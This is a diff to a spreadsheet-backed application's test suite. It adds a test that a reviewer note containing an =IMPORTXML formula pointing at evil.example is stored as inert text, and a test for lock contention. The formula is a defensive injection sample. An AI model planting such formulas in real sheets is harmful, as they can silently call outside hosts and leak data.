@@ -203,6 +203,27 @@ describe('decide', () => {
     expect(ws.outbox).toHaveLength(0);
   });
 
+  it('stores a note that looks like a formula as text', () => {
+    const [p] = pendingIds();
+    const note = '=IMPORTXML("https://evil.example/x", "//a")';
+    expect(decide(ws, { applicationIds: [p], decision: 'decline', note })).toMatchObject({ ok: true, changed: [p] });
+    const sheet = ws.sheet('Applications');
+    const headers = (sheet?.values[0] ?? []).map(String);
+    const r = (sheet?.values ?? []).findIndex((row) => row[0] === p);
+    const c = headers.indexOf('Note');
+    expect(sheet?.formulas[r][c]).toBe('');
+    expect(sheet?.displayValues[r][c]).toBe(note);
+  });
+
+  it('returns an error value, changing nothing, when another process holds the lock', () => {
+    const [p] = pendingIds();
+    ws.faults.holdScriptLock();
+    const res = ws.run('decide', [{ applicationIds: [p], decision: 'accept' }], { user: STAFF, catch: true }) as DecideResult;
+    expect(last(ws).error).toBeUndefined();
+    expect(res).toEqual({ ok: false, error: expect.stringMatching(/^Nothing was changed: .*lock/i) });
+    expect(rowOf(ws, p).Status).toBe('Pending');
+  });
+
   it('lets only the listed reviewers decide', () => {
     setSetting(ws, 'Reviewers', `${BOSS}, someone@careertech.org`);
     const [p] = pendingIds();
